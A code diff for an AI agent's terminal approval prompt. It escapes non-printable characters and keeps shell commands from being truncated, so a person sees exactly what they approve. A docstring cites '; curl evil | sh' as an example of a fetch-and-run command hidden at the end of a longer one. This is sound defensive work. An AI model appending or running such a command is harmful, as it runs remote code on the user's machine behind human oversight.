@@ -32,17 +32,34 @@ _ANSWERS: Final[dict[str, Answer]] = {
 }
 
 
+_SHOWN_CHARS: Final = 200
+
+
+def printable(text: str) -> str:
+    """``text`` with every non-printable character escaped (``\\r``, ``\\x1b``, ``\\u202e``),
+    so a carriage return, an escape sequence or a bidi override cannot hide what is approved."""
+    if text.isprintable():
+        return text
+    return "".join(
+        char if char.isprintable() else char.encode("unicode_escape").decode("ascii")
+        for char in text
+    )
+
+
 @dataclass(frozen=True)
 class ApprovalRequest:
     """What a person is asked about: the real tool, its (redacted) arguments and why.
 
-    ``remember_as`` is the pattern a "session" or "always" answer stores.
+    ``remember_as`` is the pattern a "session" or "always" answer stores; ``shown_in_full``
+    names the arguments a prompt must never shorten (the shell command being approved: a cut
+    would hide ``; curl evil | sh`` at its end).
     """
 
     tool_name: str
     arguments: dict[str, Any] = field(default_factory=dict)
     reason: str = ""
     remember_as: str = ""
+    shown_in_full: frozenset[str] = frozenset()
 
 
 @runtime_checkable
@@ -108,14 +125,14 @@ class TerminalPrompt:
             self._write("please answer o (once), s (session), a (always) or d (deny): ")
 
     def _question(self, request: ApprovalRequest) -> str:
-        lines = [f"\nhermes: the tool {request.tool_name!r} needs approval"]
+        lines = [f"\nhermes: the tool {printable(repr(request.tool_name))} needs approval"]
         if request.reason:
-            lines.append(f"  reason: {request.reason}")
+            lines.append(f"  reason: {printable(request.reason)}")
         for key, value in request.arguments.items():
             shown = value if isinstance(value, str) else json.dumps(value, default=repr)
-            if len(shown) > 200:
-                shown = shown[:200] + "..."
-            lines.append(f"  {key}: {shown}")
+            if key not in request.shown_in_full and len(shown) > _SHOWN_CHARS:
+                shown = f"{shown[:_SHOWN_CHARS]}... ({len(shown) - _SHOWN_CHARS} more characters)"
+            lines.append(f"  {printable(str(key))}: {printable(shown)}")
         lines.append("Allow? [o]nce, [s]ession, [a]lways, [d]eny: ")
         return "\n".join(lines)
 
